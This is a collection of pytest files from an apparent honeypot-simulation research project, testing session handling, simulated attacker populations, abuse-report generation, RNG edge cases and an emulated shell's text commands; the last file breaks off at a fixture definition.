from repro.net.tcp import SSH_PORT, TELNET_PORT


def make_honeypot(**kwargs):
    return Honeypot(HoneypotConfig("hp-007", 0x01020304, "SG", 64999), **kwargs)


class TestAccept:
    def test_accept_ssh(self):
        hp = make_honeypot()
        session = hp.accept(1, 40000, SSH_PORT, now=0.0)
        assert session.protocol is Protocol.SSH
        assert hp.live_session_count == 1

    def test_accept_telnet(self):
        hp = make_honeypot()
        session = hp.accept(1, 40000, TELNET_PORT, now=0.0)
        assert session.protocol is Protocol.TELNET

    def test_reject_other_port(self):
        hp = make_honeypot()
        with pytest.raises(ValueError):
            hp.accept(1, 40000, 80, now=0.0)

    def test_open_ports(self):
        assert make_honeypot().open_ports == [22, 23]

    def test_sessions_accepted_counter(self):
        hp = make_honeypot()
        hp.accept(1, 1, SSH_PORT, 0.0)
        hp.accept(2, 2, SSH_PORT, 0.0)
        assert hp.sessions_accepted == 2

    def test_identity(self):
        hp = make_honeypot()
        assert hp.honeypot_id == "hp-007"
        assert hp.country == "SG"
        assert hp.asn == 64999
        assert hp.ip == 0x01020304

    def test_session_inherits_identity(self):
        hp = make_honeypot()
        session = hp.accept(1, 1, SSH_PORT, 0.0)
        assert session.honeypot_id == "hp-007"
        assert session.honeypot_ip == hp.ip


class TestConcurrencyCap:
    def test_refuses_over_limit(self):
        hp = Honeypot(HoneypotConfig("hp-c", 1, "US", 1,
                                     max_concurrent_sessions=2))
        hp.accept(1, 1, SSH_PORT, 0.0)
        hp.accept(2, 2, SSH_PORT, 0.0)
        with pytest.raises(ConnectionRefusedError):
            hp.accept(3, 3, SSH_PORT, 0.0)
        assert hp.sessions_refused == 1
        assert hp.sessions_accepted == 2

    def test_reap_frees_slots(self):
        hp = Honeypot(HoneypotConfig("hp-c", 1, "US", 1,
                                     max_concurrent_sessions=1))
        session = hp.accept(1, 1, SSH_PORT, 0.0)
        session.client_disconnect(1.0)
        hp.reap(2.0)
        hp.accept(2, 2, SSH_PORT, 3.0)  # slot available again
        assert hp.sessions_accepted == 2

    def test_unlimited_by_default(self):
        hp = make_honeypot()
        for i in range(50):
            hp.accept(i, i, SSH_PORT, 0.0)
        assert hp.live_session_count == 50
        assert hp.sessions_refused == 0


class TestReap:
    def test_reap_closed_sessions(self):
        hp = make_honeypot()
        session = hp.accept(1, 1, SSH_PORT, 0.0)
        session.client_disconnect(5.0)
        summaries = hp.reap(6.0)
        assert len(summaries) == 1
        assert hp.live_session_count == 0

    def test_reap_times_out_overdue(self):
        hp = make_honeypot()
        hp.accept(1, 1, SSH_PORT, 0.0)
        summaries = hp.reap(1000.0)
        assert len(summaries) == 1
        assert summaries[0].close_reason.value == "auth-timeout"

    def test_reap_keeps_live(self):
        hp = make_honeypot()
        hp.accept(1, 1, SSH_PORT, 0.0)
        assert hp.reap(10.0) == []
        assert hp.live_session_count == 1

    def test_summary_sink_called(self):
        collected = []
        hp = make_honeypot(summary_sink=collected.append)
        session = hp.accept(1, 1, SSH_PORT, 0.0)
        session.client_disconnect(1.0)
        hp.reap(2.0)
        assert len(collected) == 1
        assert collected[0].honeypot_id == "hp-007"

    def test_event_sink_wired(self):
        events = []
        hp = make_honeypot(event_sink=events.append)
        hp.accept(1, 1, SSH_PORT, 0.0)
        assert events  # connect event flowed through
