"""Tests for client target sets and campaign pot subsets."""

import numpy as np
import pytest

from repro.geo.continents import Continent
from repro.simulation.rng import RngStream
from repro.workload.targets import TargetIndex, build_subset, subset_selector


@pytest.fixture
def index():
    rng = RngStream(31, "targets")
    weights = rng.random_array(50) + 0.1
    session_w = rng.random_array(50) + 0.1
    countries = (["US"] * 20) + (["DE"] * 15) + (["SG"] * 15)
    return TargetIndex(rng, weights, session_w, countries)


class TestTargetIndex:
    def test_build_respects_breadth(self, index):
        sets = index.build_for(np.array([1, 5, 50, 200]))
        assert len(sets[0].pots) == 1
        assert len(sets[1].pots) == 5
        assert len(sets[2].pots) == 50
        assert len(sets[3].pots) == 50  # clamped to farm size

    def test_pots_distinct(self, index):
        sets = index.build_for(np.array([20]))
        assert len(set(sets[0].pots.tolist())) == 20

    def test_choose_within_set(self, index):
        target = index.build_for(np.array([7]))[0]
        for u in (0.0, 0.3, 0.6, 0.999):
            assert target.choose(u) in set(target.pots.tolist())

    def test_cumulative_monotone(self, index):
        target = index.build_for(np.array([10]))[0]
        assert np.all(np.diff(target.cumulative) >= 0)
        assert target.cumulative[-1] == 1.0

    def test_pots_on_continent(self, index):
        na = index.pots_on_continent(Continent.NORTH_AMERICA)
        eu = index.pots_on_continent(Continent.EUROPE)
        asia = index.pots_on_continent(Continent.ASIA)
        assert len(na) == 20
        assert len(eu) == 15
        assert len(asia) == 15
        assert len(index.pots_on_continent(Continent.AFRICA)) == 0


class TestSubsets:
    def test_build_subset_size(self):
        rng = RngStream(32, "subset")
        weights = rng.random_array(100) + 0.1
        subset = build_subset(rng, 100, 30, weights)
        assert len(subset) == 30
        assert len(set(subset.tolist())) == 30

    def test_build_subset_full(self):
        rng = RngStream(33, "subset")
        subset = build_subset(rng, 20, 20, np.ones(20))
        assert np.array_equal(subset, np.arange(20))

    def test_build_subset_clamps(self):
        rng = RngStream(34, "subset")
        assert len(build_subset(rng, 10, 500, np.ones(10))) == 10

    def test_subset_selector(self):
        rng = RngStream(35, "subset")
        session_w = rng.random_array(100) + 0.1
        pots = build_subset(rng, 100, 10, np.ones(100))
        selector = subset_selector(pots, session_w)
        for u in (0.0, 0.5, 0.99):
            assert selector.choose(u) in set(pots.tolist())

    def test_weighted_sampling_prefers_heavy(self):
        rng = RngStream(36, "subset")
        weights = np.ones(50)
        weights[7] = 500.0
        hits = sum(7 in build_subset(rng, 50, 5, weights) for _ in range(50))
        assert hits > 40
