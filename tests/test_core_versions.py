"""Tests for SSH client-version analysis."""

import numpy as np
import pytest

from repro.core.versions import (
    distinct_tools,
    version_counts,
    version_offer_rate,
    versions_by_category,
)
from repro.store.records import SessionRecord
from repro.store.store import StoreBuilder


def build_store():
    builder = StoreBuilder()
    rows = [
        ("ssh", "SSH-2.0-Go", 0),
        ("ssh", "SSH-2.0-Go", 0),
        ("ssh", "SSH-2.0-libssh2_1.4.3", 1),
        ("ssh", "", 0),
        ("telnet", "", 0),
    ]
    for protocol, version, attempts in rows:
        builder.append(SessionRecord(
            start_time=0.0, duration=1.0, honeypot_id="p0",
            protocol=protocol, client_ip=1, client_asn=1, client_country="US",
            n_login_attempts=attempts, login_success=False,
            client_version=version,
        ))
    return builder.build()


class TestVersionCounts:
    def test_ranking(self):
        counts = version_counts(build_store())
        assert counts[0] == ("SSH-2.0-Go", 2)
        assert counts[1] == ("SSH-2.0-libssh2_1.4.3", 1)

    def test_mask(self):
        store = build_store()
        counts = version_counts(store, store.n_attempts > 0)
        assert counts == [("SSH-2.0-libssh2_1.4.3", 1)]

    def test_offer_rate(self):
        # 3 of 4 SSH sessions offered a version.
        assert version_offer_rate(build_store()) == pytest.approx(0.75)

    def test_distinct_tools(self):
        assert distinct_tools(build_store()) == 2

    def test_empty(self):
        store = StoreBuilder().build()
        assert version_counts(store) == []
        assert version_offer_rate(store) == 0.0


class TestGenerated:
    def test_known_tooling_observed(self, small_store):
        counts = dict(version_counts(small_store))
        # The common bot stacks appear in the trace.
        assert any(v.startswith("SSH-2.0-libssh") for v in counts)
        assert any("Go" in v for v in counts)

    def test_by_category(self, small_store):
        by_cat = versions_by_category(small_store)
        assert set(by_cat) == {"NO_CRED", "FAIL_LOG", "NO_CMD", "CMD", "CMD_URI"}
        # FAIL_LOG is SSH-heavy, so it carries plenty of version strings.
        assert sum(c for _, c in by_cat["FAIL_LOG"]) > 0

    def test_offer_rate_bounds(self, small_store):
        rate = version_offer_rate(small_store)
        assert 0.4 < rate < 1.0

    def test_tool_diversity(self, small_store):
        assert distinct_tools(small_store) >= 5
