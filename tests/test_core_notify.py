"""Tests for abuse-notification reports."""

import pytest

from repro.core.notify import build_abuse_reports
from repro.intel.database import IntelDatabase
from repro.intel.tags import ThreatTag
from repro.store.records import SessionRecord
from repro.store.store import StoreBuilder


def build_store():
    builder = StoreBuilder()
    # AS 100: scanner IP (12 scans) + intruder IP (3 sessions, one hash).
    for i in range(12):
        builder.append(SessionRecord(
            start_time=i * 86_400.0, duration=1.0, honeypot_id="p0",
            protocol="telnet", client_ip=10, client_asn=100,
            client_country="CN", n_login_attempts=0, login_success=False,
        ))
    for i in range(3):
        builder.append(SessionRecord(
            start_time=i * 86_400.0, duration=1.0, honeypot_id="p1",
            protocol="ssh", client_ip=11, client_asn=100, client_country="CN",
            n_login_attempts=1, login_success=True, commands=("x",),
            file_hashes=("d" * 64,),
        ))
    # AS 200: below the notification threshold.
    builder.append(SessionRecord(
        start_time=0.0, duration=1.0, honeypot_id="p0", protocol="ssh",
        client_ip=20, client_asn=200, client_country="US",
        n_login_attempts=0, login_success=False,
    ))
    return builder.build()


class TestAbuseReports:
    def setup_method(self):
        self.store = build_store()
        self.intel = IntelDatabase()
        self.intel.register("d" * 64, ThreatTag.MIRAI)

    def test_threshold(self):
        reports = build_abuse_reports(self.store, self.intel, min_sessions=10)
        assert len(reports) == 1
        assert reports[0].asn == 100

    def test_report_contents(self):
        report = build_abuse_reports(self.store, self.intel, min_sessions=10)[0]
        assert report.n_sessions == 15
        assert report.country == "CN"
        assert len(report.ips) == 2
        assert report.n_hashes == 1
        assert report.tagged_hashes == {"mirai": 1}
        assert report.window_start == "2021-12-01"

    def test_offender_details(self):
        report = build_abuse_reports(self.store, self.intel, min_sessions=10)[0]
        by_ip = {o.ip: o for o in report.ips}
        assert by_ip[10].behaviours == ["scanning"]
        assert by_ip[10].n_sessions == 12
        assert by_ip[11].behaviours == ["intrusion"]
        assert by_ip[11].hashes == ["d" * 64]

    def test_severity_triage(self):
        report = build_abuse_reports(self.store, self.intel, min_sessions=10)[0]
        assert report.severity == "critical"  # malware hash present

    def test_severity_scanning_only(self):
        builder = StoreBuilder()
        for i in range(20):
            builder.append(SessionRecord(
                start_time=0.0, duration=1.0, honeypot_id="p0",
                protocol="telnet", client_ip=5, client_asn=300,
                client_country="US", n_login_attempts=0, login_success=False,
            ))
        report = build_abuse_reports(builder.build(), IntelDatabase(),
                                     min_sessions=10)[0]
        assert report.severity == "low"

    def test_render(self):
        report = build_abuse_reports(self.store, self.intel, min_sessions=10)[0]
        text = report.render()
        assert "AS100" in text
        assert "critical" in text
        assert "mirai" in text
        assert "0.0.0.10" in text

    def test_generated_reports(self, small_dataset):
        reports = build_abuse_reports(small_dataset.store, small_dataset.intel,
                                      min_sessions=50, top_k_ases=10)
        assert len(reports) == 10
        # Ordered by volume.
        volumes = [r.n_sessions for r in reports]
        assert volumes == sorted(volumes, reverse=True)
        # At least one AS carries intrusion evidence.
        assert any(r.severity in ("critical", "high") for r in reports)
