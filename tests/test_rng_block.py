"""Batched-draw edge cases surfaced by the block emission engine.

The vectorized block path replaces per-session scalar draws with whole
day-bucket batches, which makes three RNG edge cases load-bearing: zero-size
draws (empty day buckets must not perturb the stream), single-element pools
(one-honeypot campaigns), and weight vectors that do not sum to exactly 1.0
after float arithmetic.  The properties here pin each of them, plus the
split-vs-batch equivalences every vectorised call site relies on for byte
identity with the scalar reference path.
"""

from __future__ import annotations

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.agents.scripts import ScriptKind, build_script
from repro.simulation.rng import RngStream, weight_cdf
from repro.workload.blocks import TransitionTable
from repro.workload.script_runner import ScriptRunner
from repro.workload.targets import TargetSet


def pair(name: str = "t") -> tuple:
    """Two independent but identically-seeded streams."""
    return RngStream(1234, name), RngStream(1234, name)


# -- zero-size draws ---------------------------------------------------------


def test_size_zero_draw_is_empty_and_stateless():
    a, b = pair()
    out = a.choice_indices(5, size=0)
    assert out.shape == (0,)
    # The empty draw must leave the bit stream exactly where it was.
    assert a.randint(0, 1 << 30) == b.randint(0, 1 << 30)


def test_size_zero_weighted_draw_is_stateless():
    a, b = pair()
    assert a.choice_indices(3, size=0, p=[0.2, 0.3, 0.5]).size == 0
    assert np.array_equal(a.random_array(8), b.random_array(8))


def test_size_zero_from_empty_pool_is_allowed():
    # An empty day bucket over an empty pool is a no-op, not an error.
    assert RngStream(7).choice_indices(0, size=0).size == 0


def test_positive_draw_from_empty_pool_raises():
    with pytest.raises(ValueError):
        RngStream(7).choice_indices(0, size=3)


def test_choose_many_empty_batch_returns_empty():
    ts = TargetSet(pots=np.array([4, 9]), cumulative=np.array([0.5, 1.0]))
    assert ts.choose_many(np.empty(0)).size == 0


def test_choose_many_empty_target_set_raises():
    ts = TargetSet(pots=np.empty(0, np.int64), cumulative=np.empty(0))
    with pytest.raises(ValueError):
        ts.choose_many(np.array([0.5]))


# -- single-element pools ----------------------------------------------------


@given(size=st.integers(min_value=1, max_value=64))
@settings(max_examples=25, deadline=None)
def test_single_element_pool_always_returns_zero(size):
    out = RngStream(99).choice_indices(1, size=size)
    assert np.array_equal(out, np.zeros(size, dtype=out.dtype))


@given(weight=st.floats(min_value=1e-6, max_value=1e6),
       size=st.integers(min_value=1, max_value=32))
@settings(max_examples=25, deadline=None)
def test_single_element_weighted_pool(weight, size):
    out = RngStream(99).choice_indices(1, size=size, p=[weight])
    assert np.array_equal(out, np.zeros(size, dtype=out.dtype))


def test_choose_many_single_pot_set():
    ts = TargetSet(pots=np.array([17]), cumulative=np.array([1.0]))
    u = RngStream(3).random_array(16)
    assert np.array_equal(ts.choose_many(u), np.full(16, 17))


# -- weights that do not sum to 1.0 ------------------------------------------


@given(
    weights=st.lists(st.floats(min_value=0.01, max_value=10.0),
                     min_size=2, max_size=8),
    scale=st.floats(min_value=0.25, max_value=4.0),
)
@settings(max_examples=40, deadline=None)
def test_weighted_replace_draws_are_scale_invariant(weights, scale):
    # The inverse-CDF draw normalises, so scaling every weight by the
    # same factor must not change a single drawn index.
    a, b = pair()
    scaled = [w * scale for w in weights]
    assert np.array_equal(
        a.choice_indices(len(weights), size=32, p=weights),
        b.choice_indices(len(weights), size=32, p=scaled),
    )


@given(
    weights=st.lists(st.floats(min_value=0.01, max_value=10.0),
                     min_size=3, max_size=8),
)
@settings(max_examples=40, deadline=None)
def test_replace_false_accepts_unnormalised_weights(weights):
    # Generator.choice(replace=False) rejects weight sums off by more than
    # sqrt(eps); choice_indices renormalises those instead of crashing,
    # and draws exactly what the pre-normalised spelling draws.
    a, b = pair()
    n = len(weights)
    norm = np.asarray(weights) / np.sum(weights)
    got = a.choice_indices(n, size=n - 1, replace=False, p=weights)
    want = b.choice_indices(n, size=n - 1, replace=False, p=norm)
    assert np.array_equal(np.asarray(got), np.asarray(want))
    assert len(set(np.asarray(got).tolist())) == n - 1


def test_already_normalised_weights_are_not_renormalised():
    # An unconditional divide would change the float bits of normalised
    # weight vectors; exactly-normalised input must pass through as-is.
    a, b = pair()
    p = np.array([0.25, 0.25, 0.5])
    assert np.array_equal(
        np.asarray(a.choice_indices(3, size=2, replace=False, p=p)),
        np.asarray(b.choice_indices(3, size=2, replace=False, p=p)),
    )


# -- precomputed CDFs and transition tables ----------------------------------


@given(
    weights=st.lists(st.floats(min_value=0.01, max_value=10.0),
                     min_size=1, max_size=8),
    size=st.integers(min_value=0, max_value=64),
)
@settings(max_examples=40, deadline=None)
def test_cdf_precompute_matches_per_call_weights(weights, size):
    a, b = pair()
    assert np.array_equal(
        a.choice_indices(len(weights), size=size, p=weights),
        b.choice_indices(len(weights), size=size,
                         cdf=weight_cdf(weights)),
    )


def test_transition_table_matches_inline_weights():
    table = TransitionTable([0.24, 0.16, 0.60])
    a, b = pair()
    assert np.array_equal(
        table.sample(a, 500),
        np.asarray(b.choice_indices(3, size=500, p=[0.24, 0.16, 0.60])),
    )


def test_weight_cdf_rejects_degenerate_vectors():
    with pytest.raises(ValueError):
        weight_cdf([])
    with pytest.raises(ValueError):
        weight_cdf([0.0, 0.0])


# -- split-vs-batch equivalences ---------------------------------------------


@given(
    bounds=st.lists(st.integers(min_value=1, max_value=1000),
                    min_size=1, max_size=40),
)
@settings(max_examples=40, deadline=None)
def test_randint_array_matches_scalar_loop(bounds):
    # One batched call over a varying-bounds array consumes the bit
    # stream exactly as a loop of scalar draws — the property the
    # vectorised locality redirects rely on.
    a, b = pair()
    batched = a.randint_array(0, np.asarray(bounds))
    scalar = np.array([b.randint(0, bound) for bound in bounds])
    assert np.array_equal(batched, scalar)


@given(data=st.data())
@settings(max_examples=30, deadline=None)
def test_choose_many_matches_scalar_choose(data):
    n = data.draw(st.integers(min_value=1, max_value=6))
    weights = data.draw(st.lists(
        st.floats(min_value=0.05, max_value=1.0), min_size=n, max_size=n))
    cumulative = np.cumsum(weights) / np.sum(weights)
    cumulative[-1] = 1.0
    ts = TargetSet(pots=np.arange(10, 10 + n), cumulative=cumulative)
    u = RngStream(5).random_array(data.draw(
        st.integers(min_value=0, max_value=32)))
    assert np.array_equal(ts.choose_many(u),
                          np.array([ts.choose(x) for x in u], dtype=ts.pots.dtype))


# -- fast-vs-engine profiler differential ------------------------------------


@pytest.mark.parametrize("kind", list(ScriptKind))
def test_fast_profiler_matches_engine_reference(kind):
    # The fast path drives the emulated shell directly; the engine path
    # wraps the same shell in the session state machine and event loop.
    # Every profile field must agree for every script kind.
    runner = ScriptRunner()
    template = build_script(kind, token="diff-tok")
    assert runner.profile(template) == runner.profile_via_engine(template)
