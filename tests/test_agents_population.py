"""Tests for the client population model."""

import numpy as np
import pytest

from repro.agents.population import (
    ClientPopulation,
    ClientRole,
    OVERALL_COUNTRY_MIX,
    PopulationConfig,
    ROLE_MIX,
    build_population,
)
from repro.geo.registry import GeoRegistry
from repro.simulation.clock import OBSERVATION_DAYS
from repro.simulation.rng import RngStream


@pytest.fixture(scope="module")
def population():
    registry = GeoRegistry()
    return build_population(
        PopulationConfig(n_clients=4000), registry, RngStream(13, "pop")
    )


class TestRoleMix:
    def test_weights_positive(self):
        assert all(w > 0 for _, w in ROLE_MIX)

    def test_scanning_dominates(self, population):
        scan = population.role_count(ClientRole.SCAN)
        assert scan / len(population) > 0.6

    def test_category_ip_ratios(self, population):
        # Paper ordering: NO_CRED >> CMD ~ FAIL_LOG > NO_CMD >> CMD_URI.
        n = len(population)
        scan = population.role_count(ClientRole.SCAN) / n
        scout = population.role_count(ClientRole.SCOUT) / n
        cmd = population.role_count(ClientRole.CMD) / n
        nocmd = population.role_count(ClientRole.NOCMD) / n
        uri = population.role_count(ClientRole.CMDURI) / n
        assert scan > cmd > nocmd > uri
        assert scan > scout > nocmd
        assert uri < 0.05

    def test_multi_role_share(self, population):
        roles = population.roles.astype(int)
        multi = sum(1 for r in roles if bin(r).count("1") > 1)
        assert multi / len(population) > 0.30


class TestGeography:
    def test_china_leads(self, population):
        counts = np.bincount(population.country, minlength=len(population.country_codes))
        top = population.country_codes[int(np.argmax(counts))]
        assert top == "CN"

    def test_country_mix_roughly_normalised(self):
        # The mix is normalised at sampling time; the table only needs to be
        # close to a distribution so its entries read as shares.
        total = sum(w for _, w in OVERALL_COUNTRY_MIX)
        assert total == pytest.approx(1.0, abs=0.15)

    def test_ips_resolve_to_assigned_country(self, population):
        for i in range(0, 200, 10):
            found = population.registry.lookup(int(population.ip[i]))
            assert found is not None
            assert found.country == population.country_code(i)
            assert found.asn == population.asn[i]

    def test_unique_ips(self, population):
        assert len(np.unique(population.ip)) == len(population)

    def test_many_ases(self, population):
        assert len(np.unique(population.asn)) > 30


class TestActivity:
    def test_first_day_in_window(self, population):
        assert population.first_day.min() >= 0
        assert population.first_day.max() < OBSERVATION_DAYS

    def test_majority_single_day(self, population):
        assert (population.n_days == 1).mean() > 0.5

    def test_always_on_clients_exist(self, population):
        long_lived = population.n_days > 0.9 * OBSERVATION_DAYS
        assert long_lived.sum() >= 2

    def test_days_fit_window(self, population):
        assert np.all(
            population.first_day + population.n_days <= OBSERVATION_DAYS
        )

    def test_rates_positive_heavy_tailed(self, population):
        assert (population.rate > 0).all()
        assert population.rate.max() / np.median(population.rate) > 10


class TestBreadth:
    def test_breadth_bounds(self, population):
        assert population.breadth.min() >= 1
        assert population.breadth.max() <= 221

    def test_large_single_pot_share(self, population):
        assert 0.3 < (population.breadth == 1).mean() < 0.6

    def test_some_clients_sweep_farm(self, population):
        assert (population.breadth > 110).sum() >= 5

    def test_scouts_reach_further(self):
        registry = GeoRegistry()
        pop = build_population(PopulationConfig(n_clients=6000), registry,
                               RngStream(14, "pop2"))
        scouts = pop.with_role(ClientRole.SCOUT)
        scan_only = np.array([
            i for i in range(len(pop))
            if pop.roles[i] == int(ClientRole.SCAN)
        ])
        assert pop.breadth[scouts].mean() > pop.breadth[scan_only].mean()


class TestSampling:
    def test_sample_intruders_role(self, population):
        rng = RngStream(1, "sample")
        picked = population.sample_intruders(rng, 50, role=ClientRole.CMD)
        assert len(picked) == 50
        assert all(population.roles[i] & int(ClientRole.CMD) for i in picked)

    def test_sample_intruders_country_tilt(self, population):
        rng = RngStream(2, "sample")
        picked = population.sample_intruders(
            rng, 200, role=ClientRole.CMD, countries=[("CN", 50.0)]
        )
        countries = [population.country_code(int(i)) for i in picked]
        assert countries.count("CN") / len(countries) > 0.3

    def test_sample_clamps_to_pool(self, population):
        rng = RngStream(3, "sample")
        uri_clients = population.with_role(ClientRole.CMDURI)
        picked = population.sample_intruders(rng, 10 ** 6, role=ClientRole.CMDURI)
        assert len(picked) == len(uri_clients)

    def test_sample_no_duplicates(self, population):
        rng = RngStream(4, "sample")
        picked = population.sample_intruders(rng, 100, role=ClientRole.SCAN)
        assert len(set(int(i) for i in picked)) == len(picked)


class TestDeterminism:
    def test_same_seed_same_population(self):
        a = build_population(PopulationConfig(n_clients=500), GeoRegistry(),
                             RngStream(5, "d"))
        b = build_population(PopulationConfig(n_clients=500), GeoRegistry(),
                             RngStream(5, "d"))
        assert np.array_equal(a.ip, b.ip)
        assert np.array_equal(a.roles, b.roles)
        assert np.array_equal(a.breadth, b.breadth)
