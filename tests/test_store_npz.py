"""Tests for the fast .npz store persistence."""

import numpy as np
import pytest

from repro.store.npz import save_npz, load_npz
from repro.store.store import StoreBuilder

from tests.test_store import make_record


class TestNpzRoundtrip:
    def test_exact_roundtrip(self, tmp_path):
        builder = StoreBuilder()
        builder.append(make_record())
        builder.append(make_record(client_ip=9, protocol="telnet",
                                   file_hashes=("a" * 64, "b" * 64)))
        builder.append(make_record(commands=(), file_hashes=(),
                                   login_success=False, password="",
                                   username="", client_version=""))
        store = builder.build()
        path = tmp_path / "trace.npz"
        save_npz(store, path)
        loaded = load_npz(path)
        assert len(loaded) == len(store)
        for i in range(len(store)):
            assert loaded.record(i) == store.record(i)

    def test_columns_preserved(self, tmp_path):
        builder = StoreBuilder()
        for i in range(20):
            builder.append(make_record(client_ip=i, start_time=i * 86_400.0))
        store = builder.build()
        path = tmp_path / "t.npz"
        save_npz(store, path)
        loaded = load_npz(path)
        assert np.array_equal(loaded.client_ip, store.client_ip)
        assert np.array_equal(loaded.day, store.day)
        assert loaded.hash_ids == store.hash_ids

    def test_empty_store(self, tmp_path):
        store = StoreBuilder().build()
        path = tmp_path / "empty.npz"
        save_npz(store, path)
        loaded = load_npz(path)
        assert len(loaded) == 0

    def test_generated_roundtrip(self, small_store, tmp_path):
        path = tmp_path / "gen.npz"
        save_npz(small_store, path)
        loaded = load_npz(path)
        assert len(loaded) == len(small_store)
        assert np.array_equal(loaded.start_time, small_store.start_time)
        assert np.array_equal(loaded.honeypot, small_store.honeypot)
        assert loaded.hashes.values() == small_store.hashes.values()
        # Spot-check full records.
        for i in (0, len(loaded) // 2, len(loaded) - 1):
            assert loaded.record(i) == small_store.record(i)

    def test_analyses_work_on_loaded(self, small_store, tmp_path):
        from repro.core.classify import classify_store
        path = tmp_path / "gen.npz"
        save_npz(small_store, path)
        loaded = load_npz(path)
        assert np.array_equal(classify_store(loaded), classify_store(small_store))

    def test_version_check(self, tmp_path):
        builder = StoreBuilder()
        builder.append(make_record())
        path = tmp_path / "v.npz"
        save_npz(builder.build(), path)
        # Corrupt the version marker.
        data = dict(np.load(path, allow_pickle=True))
        data["format_version"] = np.array([99])
        np.savez_compressed(path, **data)
        with pytest.raises(ValueError):
            load_npz(path)
