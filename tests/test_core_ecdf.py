"""Tests for the ECDF utility."""

import numpy as np
import pytest

from repro.core.ecdf import Ecdf


class TestEcdf:
    def test_basic_evaluation(self):
        ecdf = Ecdf([1, 2, 3, 4])
        assert ecdf(0) == 0.0
        assert ecdf(1) == 0.25
        assert ecdf(2.5) == 0.5
        assert ecdf(4) == 1.0
        assert ecdf(100) == 1.0

    def test_duplicates(self):
        ecdf = Ecdf([1, 1, 1, 5])
        assert ecdf(1) == 0.75

    def test_survival(self):
        ecdf = Ecdf([1, 2, 3, 4])
        assert ecdf.survival(2) == pytest.approx(0.5)

    def test_quantiles(self):
        ecdf = Ecdf(range(1, 101))
        assert ecdf.quantile(0.5) == 50
        assert ecdf.quantile(0.0) == 1
        assert ecdf.quantile(1.0) == 100

    def test_median_property(self):
        assert Ecdf([3, 1, 2]).median == 2

    def test_quantile_out_of_range(self):
        with pytest.raises(ValueError):
            Ecdf([1]).quantile(1.5)

    def test_empty(self):
        ecdf = Ecdf([])
        assert ecdf(5) == 0.0
        with pytest.raises(ValueError):
            ecdf.quantile(0.5)

    def test_evaluate_vector(self):
        ecdf = Ecdf([1, 2, 3, 4])
        ys = ecdf.evaluate([0, 2, 5])
        assert list(ys) == [0.0, 0.5, 1.0]

    def test_steps_monotone(self):
        xs, ys = Ecdf([5, 3, 9, 1]).steps()
        assert np.all(np.diff(xs) >= 0)
        assert np.all(np.diff(ys) > 0)
        assert ys[-1] == 1.0

    def test_summary(self):
        summary = Ecdf(range(100)).summary(points=(0.5,))
        assert summary == [(0.5, 49)]

    def test_numpy_input(self):
        assert Ecdf(np.array([1.0, 2.0]))(1.5) == 0.5
