"""Tests for text-processing shell commands."""

import pytest

from repro.honeypot.filesystem import FakeFilesystem
from repro.honeypot.shell.context import ShellContext
from repro.honeypot.shell.shell import EmulatedShell


@pytest.fixture
def shell():
    return EmulatedShell(ShellContext(fs=FakeFilesystem()))


def run(shell, line):
    result = shell.execute(line)
    return result.commands[-1].output


class TestWc:
    def test_wc_l_on_file(self, shell):
        shell.execute("echo -e 'a\\nb\\nc' > /tmp/f")
        assert run(shell, "wc -l /tmp/f") == "3"

    def test_wc_bare_pipeline_stage(self, shell):
        # The classic core-count probe ends in `| wc -l`.
        out = run(shell, "cat /proc/cpuinfo | grep name | wc -l")
        assert out == "1"

    def test_wc_words(self, shell):
        shell.execute("echo 'one two three' > /tmp/w")
        assert run(shell, "wc -w /tmp/w") == "3"

    def test_wc_full(self, shell):
        shell.execute("echo hi > /tmp/h")
        lines, words, chars = run(shell, "wc /tmp/h").split()
        assert (lines, words) == ("1", "1")


class TestSortUniq:
    def test_sort(self, shell):
        shell.execute("echo -e 'b\\na\\nc' > /tmp/s")
        assert run(shell, "sort /tmp/s") == "a\nb\nc"

    def test_sort_reverse(self, shell):
        shell.execute("echo -e 'b\\na' > /tmp/s")
        assert run(shell, "sort -r /tmp/s") == "b\na"

    def test_uniq(self, shell):
        shell.execute("echo -e 'x\\nx\\ny\\nx' > /tmp/u")
        assert run(shell, "uniq /tmp/u") == "x\ny\nx"


class TestHashing:
    def test_md5sum(self, shell):
        shell.execute("echo payload > /tmp/p")
        out = run(shell, "md5sum /tmp/p")
        digest = out.split()[0]
        assert len(digest) == 32

    def test_md5sum_missing(self, shell):
        assert "No such file" in run(shell, "md5sum /nope")

    def test_base64_roundtrip(self, shell):
        shell.execute("echo hello > /tmp/b")
        encoded = run(shell, "base64 /tmp/b")
        shell.execute(f"echo {encoded} > /tmp/enc")
        decoded = run(shell, "base64 -d /tmp/enc")
        assert decoded.strip() == "hello"


class TestKnownStatus:
    def test_all_registered(self):
        from repro.honeypot.shell.base import default_registry
        registry = default_registry()
        for name in ("wc", "sort", "uniq", "md5sum", "base64", "tr", "cut"):
            assert registry.is_known(name), name


class TestPublickey:
    def test_key_offer_rejected_and_recorded(self):
        from repro.honeypot.protocol import Protocol
        from repro.honeypot.session import HoneypotSession
        events = []
        session = HoneypotSession(
            honeypot_id="h", honeypot_ip=1, protocol=Protocol.SSH,
            client_ip=2, client_port=3, start_time=0.0,
            event_sink=events.append,
        )
        result = session.try_publickey("root", "SHA256:abc", 1.0)
        assert not result.success
        assert session.credentials == [("root", "ssh-key:SHA256:abc")]
        assert any(e.data.get("method") == "publickey" for e in events)

    def test_three_key_offers_close_ssh_session(self):
        from repro.honeypot.protocol import Protocol
        from repro.honeypot.session import CloseReason, HoneypotSession
        session = HoneypotSession(
            honeypot_id="h", honeypot_ip=1, protocol=Protocol.SSH,
            client_ip=2, client_port=3, start_time=0.0,
        )
        for i in range(3):
            session.try_publickey("root", f"SHA256:k{i}", float(i))
        assert session.is_closed
        assert session.close_reason is CloseReason.TOO_MANY_ATTEMPTS


class TestStoreFilter:
    def test_filter_subset(self, small_store):
        import numpy as np
        mask = small_store.protocol == 0
        sub = small_store.filter(mask)
        assert len(sub) == int(mask.sum())
        assert sub.is_ssh.all()
        # Side tables shared: interned ids remain valid.
        assert sub.honeypots is small_store.honeypots

    def test_filter_record_identity(self, small_store):
        import numpy as np
        mask = np.zeros(len(small_store), dtype=bool)
        mask[7] = True
        sub = small_store.filter(mask)
        assert sub.record(0) == small_store.record(7)

    def test_filter_bad_mask(self, small_store):
        import numpy as np
        with pytest.raises(ValueError):
            small_store.filter(np.zeros(3, dtype=bool))
