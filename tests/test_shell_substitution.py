"""Tests for $(...) command substitution in the emulated shell."""

import pytest

from repro.honeypot.filesystem import FakeFilesystem
from repro.honeypot.shell.context import ShellContext
from repro.honeypot.shell.shell import EmulatedShell


@pytest.fixture
def shell():
